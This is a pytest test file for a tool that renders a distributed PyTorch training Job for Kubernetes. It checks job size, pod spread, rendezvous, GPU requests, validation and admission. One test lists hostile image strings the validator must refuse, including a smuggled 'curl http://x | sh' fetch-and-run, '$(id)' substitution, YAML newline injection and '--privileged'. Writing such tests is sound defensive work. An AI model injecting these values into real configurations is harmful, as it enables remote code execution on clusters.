"""The example distributed training job (cluster_plan.kubernetes.training): rendered for a
plan whose training class gets a pytorch build and that names its image, never otherwise;
its size, spread, rendezvous and GPUs read back from the objects and compared with what the
expanded plan says (not with the renderer's own numbers); strictly valid for every supported
version; admitted by the plan's routing policy onto the training class's nodes."""

from __future__ import annotations

import ast
import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from k8s_admission import Admission
from k8s_plans import (
    LAB_PLAN,
    TRAINING_IMAGE,
    as_kubernetes,
    expanded_plan,
    lab_plan_as_kubernetes,
    rendered,
)
from k8s_scheduling import feasible
from test_k8s_objects import api_problems

from cluster_plan.kubernetes import files, render
from cluster_plan.kubernetes.bundle.artifacts import training_image
from cluster_plan.kubernetes.bundle.project import TRAINING_PROGRAM, TrainingBuild
from cluster_plan.kubernetes.cluster import kubernetes_plan as kubernetes_view
from cluster_plan.kubernetes.training import DDP_CHECK, bundle_training
from cluster_plan.kubernetes.versions import SUPPORTED
from cluster_plan.lab.role_packages import host_packages, load_role_vars
from cluster_plan.plan.allocate import allocate_addresses
from cluster_plan.plan.expand import expand
from cluster_plan.plan.validate import validate_text
from cluster_plan.software.role_view import (
    software_host_builds,
    software_modules,
    software_packages,
    software_pip_installs,
)

BASE = (Path(__file__).resolve().parents[1] / "plans" / "base.yml").read_text()
CLASS_LABEL = "cluster-plan.io/workload-class"
IMAGE_PATH = "$.scheduler.kubernetes.training_image"
CUDA_BUILD = {
    "version": "2.5.1+cu121",
    "source": "pip",
    "build": "cuda",
    "packages": ["torch", "nvidia-nccl-cu12"],
    "index_url": "https://download.pytorch.org/whl/cu121",
    "prefix": "/opt/software/pytorch/2.5.1-cu121",
    "classes": ["training"],
}


CUDA_IMAGE = "docker.io/pytorch/pytorch:2.5.1-cuda12.1-cudnn9-runtime"


def cuda_build(plan: dict[str, Any]) -> None:
    """The lab plan's training nodes get PyTorch's CUDA build, and the image that has it."""
    plan["software"]["environments"]["pytorch"] = [dict(CUDA_BUILD)]
    plan["scheduler"]["kubernetes"]["training_image"] = CUDA_IMAGE


_EXPANDED: dict[str, dict[str, Any]] = {}


def lab(name: str = "cpu") -> dict[str, Any]:
    """The lab plan as Kubernetes (a copy): its own Debian CPU build, or a CUDA build."""
    if name not in _EXPANDED:
        _EXPANDED[name] = lab_plan_as_kubernetes(cuda_build if name == "cuda" else None)
    return copy.deepcopy(_EXPANDED[name])


def objects(expanded: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """Kind -> the training example's object of that kind."""
    return {o["kind"]: o for o in render(expanded).examples.get("training-job", [])}


def container(job: dict[str, Any]) -> dict[str, Any]:
    (only,) = job["spec"]["template"]["spec"]["containers"]
    return only


def option(command: list[str], name: str) -> str:
    """The value of torchrun's `--name=value` (either spelling of the name)."""
    spellings = {f"--{name}=", f"--{name.replace('_', '-')}="}
    values = [a.split("=", 1)[1] for a in command if any(a.startswith(s) for s in spellings)]
    assert len(values) == 1, (name, command)
    return values[0]


def training_workers(expanded: dict[str, Any]) -> list[str]:
    pool = expanded["scheduler"]["workload_classes"]["training"]["pool"]
    return [
        h
        for h, s in expanded["hosts"].items()
        if "k8s_worker" in s["roles"] and s.get("pool") == pool
    ]


def gpus_of(expanded: dict[str, Any], host: str) -> int:
    """NVIDIA GPUs of a host, from its hardware profile in the plan."""
    profile = expanded["hardware"][expanded["hosts"][host]["hardware_profile"]]
    accel = profile.get("accelerators") or {}
    return int(accel.get("count", 0)) if str(accel.get("model", "")).startswith("H100") else 0


# --- when there is a job ---


@pytest.mark.parametrize("plan", ["k8s-inference"])
def test_plans_without_a_pytorch_build_render_no_job(plan):
    assert expanded_plan(plan)["software"] is None
    assert rendered(plan).examples == {}
    assert not [rel for rel in files(rendered(plan)) if rel.startswith("examples/")]


def test_the_lab_plan_renders_the_job_into_examples_not_objects():
    rendering = rendered("lab-as-kubernetes")
    assert [o["kind"] for o in rendering.examples["training-job"]] == [
        "ConfigMap",
        "Service",
        "Job",
    ]
    assert "examples/training-job.yaml" in files(rendering)
    # the role applies objects/ only: nothing of the example is in there
    example = {(o["kind"], o["metadata"]["name"]) for o in rendering.examples["training-job"]}
    assert not example & {(o["kind"], o["metadata"]["name"]) for o in rendering.all_objects()}


@pytest.mark.parametrize(
    "edit",
    [
        pytest.param(lambda p: p["software"]["environments"].pop("pytorch"), id="no-pytorch"),
        pytest.param(lambda p: p.pop("software"), id="no-software"),
        pytest.param(  # a CUDA build from pip and no image: the bundle builds none for it
            lambda p: (cuda_build(p), p["scheduler"]["kubernetes"].pop("training_image")),
            id="cuda-without-image",
        ),
        pytest.param(  # the build goes to the CPU class's nodes, not the training class's
            lambda p: p["software"]["environments"]["pytorch"][0].update(classes=["general"]),
            id="another-class",
        ),
    ],
)
def test_no_job_without_a_pytorch_build_for_the_training_class_or_an_image(edit):
    assert objects(lab())  # the edit is what takes the job away
    assert objects(lab_plan_as_kubernetes(edit)) == {}


def test_a_debian_build_without_an_image_runs_the_bundles_image_and_program():
    expanded = lab_plan_as_kubernetes(lambda p: p["scheduler"]["kubernetes"].pop("training_image"))
    found = objects(expanded)
    assert set(found) == {"Service", "Job"}  # the program is in the image: no script
    builds = {
        (b["version"], tuple(b["packages"]))
        for h in training_workers(expanded)
        for b in [expanded["hosts"][h]["software"]["pytorch"]]
    }
    ((version, packages),) = builds  # the lab's Debian 1.13 build, python3-torch
    image = training_image(TrainingBuild(version, packages))
    job = container(found["Job"])
    assert job["image"] == image.reference
    assert image.reference.startswith(f"cluster-plan.local/cluster-plan-training:{version}-")
    command = job["command"]
    # the Slurm job's program and launcher options (torch 1.13 on Python 3.11 needs them)
    launcher = ["python3", "-m", "torch.distributed.run", "--redirects", "2", "--tee", "2"]
    assert command[:7] == launcher
    assert command[-4:] == [TRAINING_PROGRAM, "train", "--backend", "gloo"]
    assert option(command, "nnodes") == "2"
    volumes = found["Job"]["spec"]["template"]["spec"]["volumes"]
    assert [v["name"] for v in volumes] == ["shm"]
    assert "TRAINING_BACKEND" not in {e["name"] for e in job["env"]}


def test_the_image_carries_the_build_and_the_hosts_get_none_of_it():
    """The section decides the job's image (bundle_training reads each training node's build);
    the software role and the node images (role_packages) give the hosts none of it."""
    expanded = lab_plan_as_kubernetes(lambda p: p["scheduler"]["kubernetes"].pop("training_image"))
    assert bundle_training(kubernetes_view(expanded)) is not None
    role_vars = load_role_vars()
    images = host_packages(expanded, role_vars)
    for host in training_workers(expanded):
        assert "python3-torch" in expanded["hosts"][host]["software"]["pytorch"]["packages"]
        builds = software_host_builds(expanded["hosts"][host], expanded["scheduler"])
        assert software_packages(builds) == software_modules(builds, "/m") == []
        play = {h: {"plan_host": s, "cluster_plan": expanded} for h, s in expanded["hosts"].items()}
        assert software_pip_installs(play, host) == []
        software = {"python3-torch", "libopenmpi-dev", "lmod", "python3-venv"}
        assert not software & images[host].names, host
    # the same plan on Slurm: the training nodes get the build
    slurm = {**expanded, "scheduler": {**expanded["scheduler"], "type": "slurm"}}
    assert "python3-torch" in host_packages(slurm, role_vars)[training_workers(expanded)[0]].plain


@pytest.mark.parametrize(
    ("sharing", "job"),
    [
        ({"mode": "time-slicing", "replicas": 4}, False),
        ({"mode": "mig"}, False),
        ({"mode": "none"}, True),
    ],
)
def test_no_cuda_job_on_shared_gpus(sharing, job):
    def shared(plan: dict[str, Any]) -> None:
        cuda_build(plan)
        plan["scheduler"]["kubernetes"]["gpu_sharing"] = sharing

    assert bool(objects(lab_plan_as_kubernetes(shared))) is job


def test_no_job_when_a_training_node_lacks_the_build():
    expanded = lab()
    del expanded["hosts"][training_workers(expanded)[-1]]["software"]["pytorch"]
    assert objects(expanded) == {}


# --- size, spread, rendezvous ---


@pytest.mark.parametrize("variant", ["cpu", "cuda"])
def test_completions_and_parallelism_equal_the_node_count(variant):
    expanded = lab(variant)
    job = objects(expanded)["Job"]
    nodes = min(2, len(training_workers(expanded)))
    assert nodes == 2
    assert job["spec"]["completionMode"] == "Indexed"
    assert job["spec"]["completions"] == job["spec"]["parallelism"] == nodes
    assert option(container(job)["command"], "nnodes") == str(nodes)


@pytest.mark.parametrize(("workers", "expected"), [(1, 1), (2, 2), (3, 2)])
def test_the_job_takes_two_nodes_or_the_pool_if_smaller(workers, expected):
    expanded = lab()
    pool = training_workers(expanded)
    build = expanded["hosts"][pool[0]]["software"]["pytorch"]
    for host in pool[workers:]:  # fewer: move nodes out of the pool
        expanded["hosts"][host]["pool"] = "elsewhere"
    if workers > len(pool):  # more: the CPU node joins it, with the build
        expanded["hosts"]["cpu01"]["pool"] = expanded["hosts"][pool[0]]["pool"]
        expanded["hosts"]["cpu01"]["software"]["pytorch"] = build
    assert len(training_workers(expanded)) == workers
    job = objects(expanded)["Job"]
    assert job["spec"]["completions"] == job["spec"]["parallelism"] == expected
    assert option(container(job)["command"], "nnodes") == str(expected)


def test_pods_spread_one_per_node():
    job = objects(lab())["Job"]
    template = job["spec"]["template"]
    (term,) = template["spec"]["affinity"]["podAntiAffinity"][
        "requiredDuringSchedulingIgnoredDuringExecution"
    ]
    assert term["topologyKey"] == "kubernetes.io/hostname"
    selector = term["labelSelector"]["matchLabels"]
    assert selector.items() <= template["metadata"]["labels"].items()  # the job's own pods
    assert set(selector) != {CLASS_LABEL}  # not every pod of the class


@pytest.mark.parametrize("variant", ["cpu", "cuda"])
def test_the_rendezvous_endpoint_is_pod_0_of_the_headless_service(variant):
    found = objects(lab(variant))
    service, job = found["Service"], found["Job"]
    template = job["spec"]["template"]
    assert service["spec"]["clusterIP"] == "None"
    assert service["spec"]["publishNotReadyAddresses"] is True
    assert service["spec"]["selector"].items() <= template["metadata"]["labels"].items()
    assert template["spec"]["subdomain"] == service["metadata"]["name"]
    command = container(job)["command"]
    # an Indexed Job's pod i is host `<job>-<i>`; under the subdomain, `<job>-<i>.<service>`
    expected = f"{job['metadata']['name']}-0.{service['metadata']['name']}"
    assert option(command, "master_addr") == expected
    assert int(option(command, "master_port")) in {p["port"] for p in service["spec"]["ports"]}
    assert option(command, "node_rank") == "$(JOB_COMPLETION_INDEX)"
    assert "JOB_COMPLETION_INDEX" in {e["name"] for e in container(job)["env"]}
    assert not [a for a in command if a.startswith("--rdzv")]  # the static rendezvous


def test_gpu_requests_equal_the_pools_gpus_per_node():
    expanded = lab("cuda")
    job = objects(expanded)["Job"]
    gpus = {gpus_of(expanded, h) for h in training_workers(expanded)}
    assert gpus == {2}
    main = container(job)
    assert main["resources"]["limits"] == {"nvidia.com/gpu": 2}
    assert option(main["command"], "nproc_per_node") == "2"
    env = {e["name"]: e.get("value") for e in main["env"]}
    assert env["TRAINING_BACKEND"] == "nccl"
    assert env["NCCL_SOCKET_IFNAME"] == env["GLOO_SOCKET_IFNAME"] == "eth0"


def test_a_cpu_build_runs_one_process_and_holds_no_gpu():
    main = container(objects(lab())["Job"])
    assert "resources" not in main
    assert option(main["command"], "nproc_per_node") == "1"
    assert {e["name"]: e.get("value") for e in main["env"]}["TRAINING_BACKEND"] == "gloo"


def test_the_image_is_the_plans():
    assert container(objects(lab())["Job"])["image"] == TRAINING_IMAGE
    assert container(objects(lab("cuda"))["Job"])["image"] == CUDA_IMAGE


# --- valid, admitted, runnable ---


@pytest.mark.parametrize("version", SUPPORTED)
@pytest.mark.parametrize("variant", ["cpu", "cuda"])
def test_the_objects_validate_strictly_for_every_supported_version(version, variant):
    expanded = lab(variant)
    expanded["scheduler"]["kubernetes"]["version"] = version
    found = list(objects(expanded).values())
    assert len(found) == 3
    assert api_problems(found, version) == []


def test_strict_validation_catches_a_broken_job():
    job = objects(lab())["Job"]
    broken = copy.deepcopy(job)
    broken["spec"]["template"]["spec"]["subdomian"] = "x"
    assert api_problems([job], "1.36") == []
    assert api_problems([broken], "1.36") != []


@pytest.mark.parametrize("variant", ["cpu", "cuda"])
def test_the_routing_policy_sends_the_pods_to_the_training_nodes(variant):
    expanded = lab(variant)
    rendering = render(expanded)
    job = objects(expanded)["Job"]
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": f"{job['metadata']['name']}-0-x",
            **job["spec"]["template"]["metadata"],
        },
        "spec": copy.deepcopy(job["spec"]["template"]["spec"]),
    }
    decision = Admission(rendering.all_objects()).admit(pod)
    assert decision.denied is None
    nodes = [o for o in rendering.all_objects() if o["kind"] == "Node"]
    capacity = {h: {"nvidia.com/gpu": gpus_of(expanded, h)} for h in expanded["hosts"]}
    placed = feasible(decision.pod, nodes, capacity)
    assert sorted(placed) == sorted(training_workers(expanded))
    # one pod per node: the job needs as many distinct nodes as it has pods
    assert len(placed) >= job["spec"]["parallelism"]


def test_the_script_is_python():
    ast.parse(DDP_CHECK)


# --- the image key is data ---


def kubernetes_plan(image: str) -> str:
    settings = f'{{version: "1.36", training_image: {image}}}'
    return (
        BASE.replace("  type: slurm\n", f"  type: kubernetes\n  kubernetes: {settings}\n")
        .replace("roles: [slurm_controller,", "roles: [k8s_control_plane,")
        .replace("roles: [slurm_compute]", "roles: [k8s_worker]")
    )


def findings(text: str) -> list[tuple[str, str]]:
    result = validate_text(text, "plan.yml")
    return [(f.code, f.json_path) for f in result.findings if f.severity == "error"]


@pytest.mark.parametrize(
    "image",
    [
        "docker.io/pytorch/pytorch:2.5.1-cuda12.1-cudnn9-runtime",
        "registry.example:5000/ml/torch__cpu:1.13.1",
        "pytorch/pytorch@sha256:" + "0" * 64,
    ],
)
def test_image_references_are_accepted(image):
    assert findings(kubernetes_plan(f'"{image}"')) == []


@pytest.mark.parametrize(
    "image",
    [
        '"pytorch/pytorch"',  # no tag: whatever latest is that day
        '"pytorch/pytorch:2.5.1; curl http://x | sh"',
        '"pytorch/pytorch:2.5.1\\n- name: x"',
        '"pytorch/pytorch:$(id)"',
        "\"pytorch/pytorch:'1'\"",
        '"Registry/PyTorch:1"',
        '"pytorch/pytorch:2.5.1 --privileged"',
        '"pytorch/pytorch:-1"',
        '"pytorch/pytorch@sha256:abc"',
        '"../pytorch:1"',
        "[pytorch:1]",
        "1",
    ],
)
def test_hostile_image_strings_are_refused(image):
    codes = {code for code, path in findings(kubernetes_plan(image)) if path == IMAGE_PATH}
    assert codes & {"format", "type"}


def lab_text(edit: Callable[[dict[str, Any]], None] | None = None) -> str:
    plan = as_kubernetes(yaml.safe_load(LAB_PLAN.read_text()))
    if edit:
        edit(plan)
    return yaml.safe_dump(plan, sort_keys=False)


def shared_cuda(plan: dict[str, Any]) -> None:
    cuda_build(plan)
    plan["scheduler"]["kubernetes"]["gpu_sharing"] = {"mode": "time-slicing", "replicas": 2}


@pytest.mark.parametrize(
    ("text", "found"),
    [
        pytest.param(lambda: lab_text(), [], id="a-job"),
        pytest.param(lambda: lab_text(cuda_build), [], id="a-cuda-job"),
        pytest.param(
            lambda: lab_text(lambda p: p.pop("software")),
            ["training-image-unused"],
            id="no-software",
        ),
        pytest.param(
            lambda: lab_text(
                lambda p: p["software"]["environments"]["pytorch"][0].update(classes=["general"])
            ),
            ["training-image-unused"],
            id="build-elsewhere",
        ),
        pytest.param(  # a build for a pool the training class runs on reaches it
            lambda: lab_text(
                lambda p: p["software"]["environments"]["pytorch"][0].update(
                    classes=[], pools=["gpu"]
                )
            ),
            [],
            id="build-by-pool",
        ),
        pytest.param(lambda: lab_text(shared_cuda), ["training-image-unused"], id="shared-gpus"),
        pytest.param(
            lambda: kubernetes_plan(f'"{CUDA_IMAGE}"'),
            ["training-image-unused"],
            id="base-without-software",
        ),
    ],
)
def test_validate_warns_of_an_image_without_a_job(text, found):
    """The warning and the renderer agree: it fires exactly where no job is rendered."""
    result = validate_text(text(), "plan.yml")
    assert [f.code for f in result.findings if f.json_path == IMAGE_PATH] == found
    lock, _ = allocate_addresses(result.plan, result.nodes, None)
    rendering = render(expand(result.plan, result.nodes, lock))
    assert bool(rendering.examples) is (found == [])


def test_the_base_plan_as_kubernetes_is_sound():
    assert findings(kubernetes_plan('"pytorch/pytorch:2.5.1-cuda12.1-cudnn9-runtime"')) == []


def test_the_kubernetes_lab_plan_runs_the_bundles_training_image():
    """Its training class gets Debian's CPU torch and it names no image: the bundle's."""
    assert expanded_plan("lab-k8s")["software"] is not None
    objects = rendered("lab-k8s").examples["training-job"]
    assert [o["kind"] for o in objects] == ["Service", "Job"]  # the image's own program
    (job,) = [o for o in objects if o["kind"] == "Job"]
    (container,) = job["spec"]["template"]["spec"]["containers"]
    assert container["image"].startswith("cluster-plan.local/cluster-plan-training:1.13-")
    assert job["spec"]["completions"] == 1  # one node in its pool: gpu01
    assert "--backend" in container["command"] and "gloo" in container["command"]
